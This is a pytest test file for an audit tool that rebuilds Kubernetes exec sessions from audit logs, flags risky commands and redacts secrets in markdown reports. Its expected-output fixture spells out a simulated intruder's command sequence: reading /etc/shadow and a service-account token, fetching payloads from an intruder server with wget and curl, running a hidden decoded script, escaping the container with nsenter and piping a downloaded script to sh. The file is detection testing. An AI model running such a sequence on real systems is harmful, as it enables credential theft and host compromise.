"""Exec sessions rebuilt from audit events: the seeded sandbox's sessions, and awkward inputs."""

import json
import random
import re
from datetime import datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ackaudit.audit.fields import flatten_event
from ackaudit.audit.redact import MASK
from ackaudit.audit.risky import builtin_catalogue
from ackaudit.audit.session import build_session, redacted, to_markdown, tree_lines
from ackaudit.sandbox import open_sandbox
from ackaudit.sandbox.world import AUDITED_CLUSTER_ID, INTRUDER
from ackaudit.sandbox.world_clusters import audit_logstore_name, log_project_name
from ackaudit.sandbox.world_history import INTRUDER_SERVER, MYSQL_PASSWORD

NOW = 1795883722.0      # 2026-11-28T16:35:22Z
CATALOGUE = builtin_catalogue()
# The intruder's session as its process tree, whatever the seed (pids and times vary, the script does not).
INTRUSION_TREE = f"""\
sh
├─ id
├─ uname -a
├─ cat /etc/shadow   [credential-access]
├─ cat /var/run/secrets/kubernetes.io/serviceaccount/token   [credential-access]
├─ wget -q http://{INTRUDER_SERVER}/x.b64 -O /tmp/.x.b64   [network-transfer]
├─ base64 -d /tmp/.x.b64   [obfuscation]
├─ chmod +x /tmp/.x.sh
├─ .x.sh   [hidden-program]
│  ├─ uname -m
│  ├─ cat /proc/self/cgroup
│  └─ ls /var/run/containerd
├─ nsenter -t 1 -m -u -i -n sh   [container-escape]
│  └─ sh
│     ├─ id
│     ├─ hostname
│     ├─ crictl ps   [container-runtime]
│     ├─ curl -fsSL http://{INTRUDER_SERVER}/k.sh   [network-transfer]
│     └─ sh   [remote-code-execution]
│        ├─ mkdir -p /var/tmp/.cache
│        ├─ crontab -l
│        └─ wget -q http://{INTRUDER_SERVER}/kd -O /var/tmp/.cache/kd   [network-transfer]
└─ rm -f /tmp/.x.sh /tmp/.x.b64   [file-tampering]"""


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    state = open_sandbox(tmp_path_factory.mktemp("world"), seed=7, now=NOW)
    project, logstore = log_project_name(AUDITED_CLUSTER_ID), audit_logstore_name(AUDITED_CLUSTER_ID)

    def search(query):
        return [flatten_event(row) for row in state.events.query(project, logstore, query, 0, int(NOW) + 1,
                                                                    line=100).rows]
    yield search
    state.close()


@pytest.fixture(scope="module")
def intrusion(world):
    events = world(f"k8s.user.username: {INTRUDER['username']}")
    assert len({e["traceId"] for e in events}) == 1
    return events


def drawn(tree):
    return "\n".join(prefix + node.cmdline + (f"   [{node.risk.category}]" if node.risk else "")
                     for prefix, node in tree_lines(tree))


def epoch(text):
    return datetime.fromisoformat(text.replace("Z", "+00:00")).timestamp()


def test_the_intrusion_comes_out_whole(intrusion):
    view = build_session(intrusion, CATALOGUE)
    assert drawn(view.tree) == INTRUSION_TREE
    assert (view.username, view.aliuid, view.groups) == (INTRUDER["username"], INTRUDER["aliuid"], INTRUDER["groups"])
    assert (view.namespace, view.container, view.exec_command, view.cluster_id) == (
        "payments", "api", "sh", AUDITED_CLUSTER_ID)
    assert view.pod.startswith("payments-api-") and view.node and view.host_ip and view.has_exec_event
    flagged = {c.name for c in view.risky}
    assert {"nsenter", "wget", "base64", "curl", "sh", "crictl", "rm"} <= flagged
    assert view.counts == {"commands": 23, "risky": 11, "programs": len({c.name for c in view.commands})}


def test_the_intrusion_lasts_from_the_exec_to_its_last_command(intrusion):
    view = build_session(intrusion, CATALOGUE)
    exec_time = next(e["time"] for e in intrusion if e["kind"] == "Kubernetes")
    last = max(e["time"] for e in intrusion)
    assert view.duration_seconds == pytest.approx(epoch(last) - epoch(exec_time), abs=0.002)
    assert 60 < view.duration_seconds < 600
    assert view.started == exec_time[:23] + "Z" and view.ended == last[:23] + "Z"


def test_commands_are_in_time_order_with_exec_replacements_after_their_caller(intrusion):
    commands = build_session(intrusion, CATALOGUE).commands
    assert [c.epoch for c in commands] == sorted(c.epoch for c in commands)
    nsenter = next(i for i, c in enumerate(commands) if c.name == "nsenter")
    assert commands[nsenter + 1].name == "sh" and commands[nsenter + 1].pid == commands[nsenter].pid


def test_order_and_duplicates_do_not_matter(intrusion):
    expected = build_session(intrusion, CATALOGUE).to_json()
    shuffled = intrusion + [dict(e) for e in intrusion[:7]]
    random.Random(3).shuffle(shuffled)
    assert build_session(shuffled, CATALOGUE).to_json() == expected


def test_only_commands_found(intrusion):
    commands = [e for e in intrusion if e["kind"] == "Command"]
    view = build_session(commands, CATALOGUE)
    assert not view.has_exec_event and view.exec_command == ""
    assert drawn(view.tree) == INTRUSION_TREE      # the root is still found: its parent is the runtime
    assert view.started == commands[0]["time"][:23] + "Z"
    assert "was not found" in to_markdown(view)


def test_only_the_exec_event_found(intrusion):
    view = build_session([e for e in intrusion if e["kind"] == "Kubernetes"], CATALOGUE)
    assert view.has_exec_event and view.exec_command == "sh" and view.username == INTRUDER["username"]
    assert view.commands == [] and view.tree == [] and view.risky == []
    assert view.started == view.ended and view.duration_seconds == 0
    assert view.counts == {"commands": 0, "risky": 0, "programs": 0}
    assert "No commands were recorded" in to_markdown(view)


def test_empty_session():
    view = build_session([], CATALOGUE)
    assert (view.trace_id, view.started, view.ended, view.duration_seconds) == ("", None, None, None)
    assert view.to_json()["commands"] == [] and not view.has_exec_event
    assert "No audit events were found" in to_markdown(view)


def test_to_json_is_plain_data_with_the_documented_keys(intrusion):
    data = json.loads(json.dumps(build_session(intrusion, CATALOGUE).to_json()))
    assert set(data) == {"trace_id", "cluster_id", "username", "aliuid", "groups", "namespace", "pod", "container",
                         "node", "host_ip", "exec_command", "started", "ended", "duration_seconds",
                         "has_exec_event", "counts", "commands", "risky", "tree"}
    nsenter = next(c for c in data["risky"] if c["process.name"] == "nsenter")
    assert set(nsenter) == {"time", "eventId", "process.pid", "process.parentPid", "process.name",
                            "process.cmdline", "process.cwd", "process.user.uid", "k8s.container.name", "risk"}
    assert nsenter["risk"]["category"] == "container-escape" and re.fullmatch(r"\d{4}-.*\.\d{3}Z", nsenter["time"])
    root = data["tree"][0]
    assert root["name"] == "sh" and root["eventId"] and len(root["children"]) == 10


def test_markdown_report_of_the_intrusion(intrusion):
    report = to_markdown(build_session(intrusion, CATALOGUE))
    assert report.startswith("# Exec session `")
    times = sorted(datetime.fromisoformat(e["time"].replace("Z", "+00:00")) for e in intrusion)
    seconds = round((times[-1] - times[0]).total_seconds())
    assert 60 < seconds < 3600           # minutes of typing, read from the events themselves
    assert f"| **Duration** | {seconds // 60}m {seconds % 60}s |" in report
    assert "| **Risky commands** | 11 |" in report
    assert "## Risky commands" in report and "Enters other namespaces" in report
    tree = report.split("```text\n", 1)[1].split("\n```", 1)[0]
    assert tree.splitlines()[0] == "sh" and "│  └─ sh" in tree
    assert "(curl \\| sh)" in report          # the pipe in a reason does not split its table cell


def test_markdown_redacts_unless_told_not_to(world):
    mysql = world("process.name: mysql")
    assert mysql, "the seeded SRE session with a mysql password"
    session = world(f"traceId: {mysql[0]['traceId']}")
    view = build_session(session, CATALOGUE)
    assert MYSQL_PASSWORD not in to_markdown(view) and f"-p{MASK}" in to_markdown(view)
    assert MYSQL_PASSWORD in to_markdown(view, redact=False)


def command(pid, parent, when, cmdline, parent_name="sh", event_id=None):
    return {"kind": "Command", "traceId": "t", "eventId": event_id or f"e{pid}-{when}", "time": f"2026-11-28T10:00:{when:06.3f}Z",
            "process.pid": pid, "process.parentPid": parent, "process.parentName": parent_name,
            "process.name": cmdline.split()[0], "process.cmdline": cmdline, "process.cwd": "/"}


def test_a_reused_pid_is_told_apart_by_time():
    events = [command(100, 1, 1, "bash", "containerd-shim"), command(200, 100, 2, "python app.py"),
              command(300, 200, 3, "ls"), command(200, 100, 20, "sleep 5"), command(301, 200, 21, "date")]
    assert drawn(build_session(events, CATALOGUE).tree) == "bash\n├─ python app.py\n│  └─ ls\n└─ sleep 5\n   └─ date"


def test_cycles_self_parents_and_missing_pids_do_not_loop():
    events = [command(1, 2, 1, "a"), command(2, 1, 2, "b"), command(3, 3, 3, "c"), command(None, 2, 4, "d"),
              command(None, None, 5, "e")]
    view = build_session(events, CATALOGUE)
    assert sorted(node.cmdline for _, node in tree_lines(view.tree)) == ["a", "b", "c", "d", "e"]
    assert drawn(view.tree) == "a\n└─ b\n   └─ d\nc\ne"


def test_commands_whose_parent_is_missing_hang_under_the_exec_root():
    events = [command(10, 1, 1, "sh", "containerd-shim"), command(50, 40, 2, "cat /tmp/x", "bash"),
              command(11, 10, 3, "id")]
    assert drawn(build_session(events, CATALOGUE).tree) == "sh\n├─ cat /tmp/x\n└─ id"
    # Without the root (the window cut it off) they stay at the top.
    assert drawn(build_session(events[1:], CATALOGUE).tree) == "cat /tmp/x\nid"


def test_a_shell_typed_after_a_download_is_not_a_piped_script():
    events = [command(10, 1, 1, "sh", "containerd-shim"), command(11, 10, 2, "curl -O http://x/a"),
              command(12, 10, 9, "sh")]
    assert build_session(events, CATALOGUE).risky[0].name == "curl"
    assert len(build_session(events, CATALOGUE).risky) == 1


def test_markdown_escapes_pipes_and_backticks():
    events = [command(10, 1, 1, "sh", "containerd-shim"), command(11, 10, 2, "grep -E a|b`x` /var/log/*_1.log")]
    report = to_markdown(build_session(events, CATALOGUE))
    row = next(line for line in report.splitlines() if "grep" in line and line.startswith("|"))
    assert len(re.findall(r"(?<!\\)\|", row)) == 8       # seven columns, none split by the command's pipe
    assert "``grep -E a\\|b`x` /var/log/*_1.log``" in row


def test_a_deep_tree_does_not_exhaust_the_stack():
    events = [command(1, 0, 0, "sh", "containerd-shim")]
    events += [command(n, n - 1, n / 1000, f"sh -c step{n}") for n in range(2, 3000)]
    view = build_session(events, CATALOGUE)
    assert len(tree_lines(view.tree)) == 2999
    assert len(json.dumps(view.to_json()["commands"])) > 0



def test_redacted_masks_every_level_of_a_deep_tree_and_leaves_the_view_as_it_was():
    events = [command(1, 0, 0, "sh", "containerd-shim")]
    events += [command(n, n - 1, n / 1000, f"mysql -pS3cret{n} -e step") for n in range(2, 3000)]
    view = build_session(events, CATALOGUE)
    masked = redacted(view)
    lines = [node.cmdline for _, node in tree_lines(masked.tree)]
    assert len(lines) == 2999 and lines[-1] == f"mysql -p{MASK} -e step"
    assert not any("S3cret" in line for line in lines)
    assert not any("S3cret" in c.cmdline for c in masked.commands + masked.risky) and masked.risky
    assert [r.risk for r in masked.risky] == [r.risk for r in view.risky]
    assert tree_lines(view.tree)[-1][1].cmdline == "mysql -pS3cret2999 -e step"      # the original stays


pids = st.one_of(st.none(), st.integers(min_value=1, max_value=6))


@given(st.lists(st.tuples(pids, pids, st.integers(min_value=0, max_value=5), st.sampled_from(["sh", "curl x", "id"])),
                max_size=25))
@settings(max_examples=200)
def test_every_command_appears_once_in_the_tree(specs):
    events = [command(pid, parent, when, cmdline, event_id=f"e{n}") for n, (pid, parent, when, cmdline)
              in enumerate(specs)]
    view = build_session(events, CATALOGUE)
    shown = [node.event_id for _, node in tree_lines(view.tree)]
    assert sorted(shown) == sorted(e["eventId"] for e in events)
    assert view.counts["commands"] == len(events)
    to_markdown(view)


def test_a_program_exec_d_in_place_hangs_under_its_caller():
    events = [command(10, 1, 1, "sh", "containerd-shim"), command(20, 10, 2, "sh -c exec python app.py"),
              command(20, 10, 2.5, "python app.py"), command(21, 20, 3, "ls")]
    assert drawn(build_session(events, CATALOGUE).tree) == "sh\n└─ sh -c exec python app.py\n   └─ python app.py\n      └─ ls"


def test_times_fall_back_to_the_receive_time_and_tolerate_garbage():
    events = [command(10, 1, 1, "sh", "containerd-shim"), command(11, 10, 2, "id"), command(12, 10, 3, "ls")]
    events[1]["time"], events[1]["__time__"] = "", 1795883722
    events[2]["time"], events[2]["__time__"] = "not a time", 10**30
    view = build_session(events, CATALOGUE)
    assert [c.cmdline for c in view.commands] == ["sh", "id", "ls"]       # an unknown time sorts last
    assert view.commands[1].time == "2026-11-28T16:35:22.000Z" and view.commands[2].time == "not a time"
    to_markdown(view)
